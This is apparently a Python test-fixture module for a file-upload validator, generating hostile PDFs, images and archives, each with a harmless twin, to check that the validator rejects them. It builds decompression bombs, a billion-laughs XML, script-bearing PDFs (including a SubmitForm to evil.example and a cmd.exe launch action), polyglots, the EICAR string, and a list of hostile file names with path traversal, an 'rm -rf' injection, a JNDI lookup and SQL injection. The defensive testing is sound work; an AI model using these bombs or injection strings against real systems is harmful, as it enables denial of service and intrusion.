"""Classes of hostile files, each with a harmless twin that must be taken. Every call makes another one of its class, but of
nothing, of which there is one only.
"""

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from stadttor.forms.tests import hostile
from tests.safety.hostile import bombs

Maker = Callable[[Random], bytes]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
MB = 1_000_000


@dataclass(frozen=True)
class FileClass:
    """`ending` is what the sender calls it; `max_mb` what the field takes; `code` why it must be refused."""

    name: str
    ending: str
    bad: Maker
    good: Maker
    max_mb: int = 10
    code: str = "file_broken"


def pdf(chance: Random, change: Callable[[Pdf], object] = lambda _: None, **saved: object) -> bytes:
    """A PDF of a few pages of some size, with a title; changed as the class wants."""

    def changed(document: Pdf) -> None:
        size = [0, 0, chance.randint(200, 900), chance.randint(200, 900)]
        for page in document.pages:
            page.MediaBox = Array(size)
        document.docinfo["/Title"] = f"Nachweis {chance.randint(1, 99_999)}"
        change(document)

    return hostile.pdf(changed, pages=chance.randint(1, 5), **saved)


def picture(chance: Random, kind: str = "PNG", least: int = 40, most: int = 600) -> bytes:
    size = chance.randint(least, most), chance.randint(least, most)
    data = io.BytesIO()
    Image.new("RGB", size, (chance.randrange(256), chance.randrange(256), chance.randrange(256))).save(data, kind)
    return data.getvalue()


def _active(*actions: dict[str, object]) -> Maker:
    """One of these actions, hung onto one of the places where a PDF may have them."""

    def make(chance: Random) -> bytes:
        action = chance.choice(actions)
        hang = chance.choice((hostile.opens, hostile.opens_numbered, hostile.button, _on_page, _in_tree))
        packed = chance.choice(({}, {"object_stream_mode": hostile.PACKED}))
        return pdf(chance, hang(action), **packed)

    return make


def _on_page(action: dict[str, object]) -> Callable[[Pdf], object]:
    def change(document: Pdf) -> None:
        document.pages[-1].AA = Dictionary(O=Dictionary(action))

    return change


def _in_tree(action: dict[str, object]) -> Callable[[Pdf], object]:
    """By the name tree, where scripts of a whole document lie."""

    def change(document: Pdf) -> None:
        act = document.make_indirect(Dictionary(action))
        document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["eins", act])))

    return change


SCRIPTS = tuple(
    {"/S": Name.JavaScript, "/JS": text} for text in ("app.alert(1)", "this.exportDataObject({cName: 'x'})")
)
ELSEWHERE = (
    {"/S": Name.Launch, "/F": "cmd.exe"},
    {"/S": Name.SubmitForm, "/F": "https://evil.example"},
    {"/S": Name.ImportData, "/F": "data.fdf"},
    {"/S": Name.GoToR, "/F": "//evil.example/share.pdf", "/D": "1"},
    {"/S": Name.GoToE, "/D": "1"},
)
PLAYS = ({"/S": Name.Rendition}, {"/S": Name.Movie}, {"/S": Name.Sound})


def _page_loop(chance: Random) -> bytes:
    """A tree of pages that contains itself."""
    count, side = chance.randint(1, 9), chance.randint(9, 9_999)
    return hostile.numbered(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[3 0 R 2 0 R]>>" % count,
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %d 9]>>" % side,
        ]
    )


def _chunk(name: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")


def _text_bomb(chance: Random) -> bytes:
    """A picture whose words unpack to hundreds of megabytes."""
    sound = picture(chance)
    word = chance.choice((b"zTXt", b"iCCP"))
    return sound[:33] + _chunk(word, b"x\0\0" + hostile.bomb(chance.randint(90, 150) * MB)) + sound[33:]


def _huge_cut_off(chance: Random) -> bytes:
    """As many pixels as allowed, in the deepest colours, and only the first rows of them."""
    side = chance.randint(7_600, 7_740)
    head = side.to_bytes(4, "big") * 2 + bytes([16, 6, 0, 0, 0])
    packed = _chunk(b"IDAT", zlib.compress(bytes(side * 8 * 3), 9)) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + packed


def _cut(data: bytes, chance: Random) -> bytes:
    return data[: -chance.randint(40, len(data) // 2)]


def _office(chance: Random) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(chance.randint(500, 5_000))


def _laughs(chance: Random) -> bytes:
    """A billion of them."""
    word = chance.randrange(MB)
    words = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha{word}">{words}]><x>&l9;</x>'.encode()


def _svg(chance: Random) -> bytes:
    return f"<svg xmlns='http://www.w3.org/2000/svg'><script>alert({chance.randrange(MB)})</script></svg>".encode()


def _html(chance: Random) -> bytes:
    return b"<!doctype html><script>alert(%d)</script>" % chance.randrange(MB)


def _program(chance: Random) -> bytes:
    return chance.choice((b"MZ\x90\0", b"\x7fELF\2\1\1", b"#!/bin/sh\n", b"\xca\xfe\xba\xbe")) + chance.randbytes(3_000)


def _behind(first: Callable[[Random], bytes], *others: Callable[[Random], bytes]) -> Maker:
    """One file, and right after it another."""
    return lambda chance: first(chance) + chance.choice(others)(chance)


def _before(*firsts: bytes) -> Maker:
    """A PDF hidden behind the first bytes of something else."""
    return lambda chance: chance.choice(firsts) + pdf(chance)


def _zip(chance: Random) -> bytes:
    data, entry = io.BytesIO(), zipfile.ZipInfo(f"brief-{chance.randrange(MB)}.html")
    with zipfile.ZipFile(data, "w") as packed:
        packed.writestr(entry, f"<script>alert({chance.randrange(MB)})</script>")
    return data.getvalue()


def _disguised(chance: Random) -> bytes:
    """A script whose name is written by numbers of some of its letters."""
    action = f"<</S/{_hidden('JavaScript', chance)}/{_hidden('JS', chance)}(app.alert({chance.randrange(MB)}))>>"
    return hostile.numbered([f"<</Type/Catalog/Pages 2 0 R/OpenAction{action}>>".encode(), *hostile.PAGE])


def _hidden(name: str, chance: Random) -> str:
    always = chance.randrange(len(name))
    return "".join(
        f"#{ord(letter):02x}" if place == always or chance.random() < 0.4 else letter
        for place, letter in enumerate(name)
    )


def _no_page(chance: Random) -> bytes:
    title = f"Nachweis {chance.randrange(MB)}"
    return hostile.pdf(lambda document: document.docinfo.update({"/Title": title}), pages=0)


def _with_link(chance: Random) -> bytes:
    return pdf(chance, hostile.button(hostile.WEB))


def _just_above(chance: Random) -> bytes:
    return hostile.png_header(chance.randint(7_750, 8_000), 7_750)


def _photo(chance: Random) -> bytes:
    return picture(chance, "JPEG")


def _big(chance: Random) -> bytes:
    return pdf(chance) + bytes(chance.randint(2, 4) * MB)


def _of_kind(*kinds: str) -> Maker:
    return lambda chance: picture(chance, chance.choice(kinds))


def _objects(chance: Random) -> bytes:
    return hostile.packed_objects(chance.randint(1_000_000, 1_010_000))


def _encrypted(chance: Random) -> bytes:
    return pdf(chance, encryption=pikepdf.Encryption(owner="o", user=f"geheim{chance.random()}"))


def _printable(chance: Random) -> bytes:
    return pdf(chance, encryption=pikepdf.Encryption(owner="o", user=""))


def _pages(least: int, most: int) -> Maker:
    return lambda chance: hostile.pdf(pages=chance.randint(least, most))


def _picture_inside(chance: Random) -> bytes:
    return pdf(chance, hostile.with_image(chance.randint(20_000, 60_000), chance.randint(20_000, 60_000)))


def _eicar(chance: Random) -> bytes:
    stream = chance.choice((EICAR, b"q Q\n" + EICAR))
    return pdf(chance, hostile.with_streams(1, None, stream), **hostile.RAW)


def _many_streams(chance: Random) -> bytes:
    packed = hostile.bomb(95 * MB)
    return pdf(chance, hostile.with_streams(chance.randint(20, 40), Name.FlateDecode, packed), **hostile.RAW)


def _small_streams(chance: Random) -> bytes:
    return pdf(chance, hostile.with_streams(40, Name.FlateDecode, hostile.bomb(99)))


def _packed(chance: Random) -> bytes:
    return pdf(chance, object_stream_mode=hostile.PACKED)


def _raw(change: Callable[[int], Callable[[Pdf], object]], least: int, most: int) -> Maker:
    """The change with a size of so many megabytes."""
    return lambda chance: pdf(chance, change(chance.randint(least, most) * MB), **hostile.RAW)


def _sized(make: Callable[[int], bytes], least: int, most: int) -> Maker:
    return lambda chance: make(chance.randint(least, most) * MB)


def _painted(chance: Random) -> bytes:
    return hostile.painted(chance.randint(2_000, 4_500), chance.randint(150, 300))


ACTIVE, FALSE, PIXELS = "file_active", "file_false", "file_pixels"
CLASSES = (
    FileClass("a script that runs", "pdf", _active(*SCRIPTS), pdf, code=ACTIVE),
    FileClass("a script written in disguise", "pdf", _disguised, pdf, code=ACTIVE),
    FileClass("something that opens elsewhere", "pdf", _active(*ELSEWHERE), _with_link, code=ACTIVE),
    FileClass("something that plays", "pdf", _active(*PLAYS), pdf, code=ACTIVE),
    FileClass("another file inside", "pdf", lambda c: pdf(c, hostile.with_attachment), pdf, code=ACTIVE),
    FileClass("a dynamic form", "pdf", lambda c: pdf(c, hostile.with_xfa), lambda c: pdf(c, hostile.with_plain_form), code=ACTIVE),
    FileClass("a password", "pdf", _encrypted, _printable, code="file_locked"),
    FileClass("a million objects", "pdf", _objects, lambda c: hostile.packed_objects(c.randint(10, 5_000)), code="file_pages"),
    FileClass("very many pages", "pdf", _pages(201, 900), _pages(150, 200), code="file_pages"),
    FileClass("a PDF cut off", "pdf", lambda c: _cut(pdf(c), c), pdf),
    FileClass("no page at all", "pdf", _no_page, pdf),
    FileClass("only the first bytes of a PDF", "pdf", lambda c: b"%PDF-1.7\n" + c.randbytes(900), pdf),
    FileClass("a page that unpacks without end", "pdf",
              lambda c: pdf(c, hostile.with_stream(hostile.bomb(c.randint(110, 200) * MB)), **hostile.RAW),
              lambda c: pdf(c, hostile.with_stream(zlib.compress(b"q Q")))),
    FileClass("packed twice", "pdf",
              lambda c: pdf(c, hostile.with_stream(zlib.compress(hostile.bomb(c.randint(110, 200) * MB), 9), filter=hostile.TWICE),
                            **hostile.RAW), pdf),
    FileClass("many streams, none too large", "pdf", _many_streams, _small_streams, 20),
    FileClass("a bomb in other clothes", "pdf", _raw(hostile.in_hex, 110, 150), pdf),
    FileClass("runs of the same byte", "pdf", _raw(hostile.runs, 110, 150), pdf),
    FileClass("a bomb among the objects", "pdf", _sized(hostile.object_stream_bomb, 40, 120), _packed),
    FileClass("a bomb for a table of contents", "pdf", _sized(hostile.reference_table_bomb, 40, 120), pdf),
    FileClass("pages that contain themselves", "pdf", _page_loop, pdf),
    FileClass("a picture of many pixels inside", "pdf", _picture_inside, lambda c: pdf(c, hostile.with_image(1, 1))),
    FileClass("nested without end", "pdf", lambda c: hostile.nested(c.randint(500, 9_000)), lambda _: hostile.nested(20)),
    FileClass("something behind the document", "pdf", _behind(pdf, _zip, _program, lambda c: _html(c) * 99), pdf),
    FileClass("something behind a photo", "jpg", _behind(_photo, _zip), _photo),
    FileClass("something behind a picture", "png", _behind(picture, _zip, _program), picture),
    FileClass("very many pixels", "png", lambda c: hostile.png_header(c.randint(8_000, 60_000), 30_000), picture, code=PIXELS),
    FileClass("pixels just above the bound", "png", _just_above, picture, code=PIXELS),
    FileClass("a picture cut off", "png", lambda c: _cut(picture(c, least=500, most=900), c), picture),
    FileClass("a huge picture cut off", "png", _huge_cut_off, picture),
    FileClass("a picture whose words are a bomb", "png", _text_bomb, picture),
    FileClass("a photo cut off", "jpg", lambda c: _cut(picture(c, "JPEG", 500, 900), c), _photo),
    FileClass("a photo of nothing", "jpg", lambda c: b"\xff\xd8\xff" + c.randbytes(900), _photo),
    FileClass("a photo painted again and again", "jpg", _painted, _photo),
    FileClass("nothing", "pdf", lambda _: b"", pdf, code="file_empty"),
    FileClass("a drawing with a script", "png", _svg, picture, code=FALSE),
    FileClass("a web page", "pdf", _html, pdf, code=FALSE),
    FileClass("a program", "pdf", _program, pdf, code=FALSE),
    FileClass("an archive", "pdf", _zip, pdf, code=FALSE),
    FileClass("an archive that unpacks without end", "pdf", bombs.deep, pdf, code=FALSE),
    FileClass("archives in archives", "pdf", bombs.nested, pdf, code=FALSE),
    FileClass("an archive of very many entries", "pdf", bombs.many, pdf, code=FALSE),
    FileClass("an archive whose entries overlap", "pdf", bombs.overlapping, pdf, code=FALSE),
    FileClass("an old office document", "pdf", _office, pdf, code=FALSE),
    FileClass("a billion laughs", "pdf", _laughs, pdf, code=FALSE),
    FileClass("two files in one", "pdf", _before(b"GIF89a", b"#!/bin/sh\n", b"PK\x03\x04", b"<html>"), pdf, code=FALSE),
    FileClass("a picture of another kind", "png", _of_kind("GIF", "TIFF", "BMP", "WEBP", "ICO"), picture, code=FALSE),
    FileClass("too large", "pdf", _big, pdf, 1, code="file_big"),
    FileClass("a virus", "pdf", _eicar, pdf, code="file_infected"),
)  # fmt: skip

NAMES = (
    "../../etc/passwd", "..\\..\\windows\\system32\\x.pdf", "/etc/shadow", "C:\\boot.ini", "schein.pdf\0.exe",
    "rechnung\u202efdp.exe", "\u2066schein\u2069\u200f.pdf", "zwei\r\nSet-Cookie: x=1.pdf", "<img src=x onerror=alert(1)>.pdf",
    "a" * 5_000 + ".pdf", "", "..", ".htaccess", "con.pdf", "schein.pdf;rm -rf", "${jndi:ldap://evil.example}.pdf",
    "'; DROP TABLE forms_draft; --.pdf", "schein\u0000\u0007\u001b[31m.pdf", "%2e%2e%2f%2e%2e%2fx.pdf", "😀.pdf",
)  # fmt: skip
"""Names for a sound file: it is kept under a name that is harmless everywhere."""
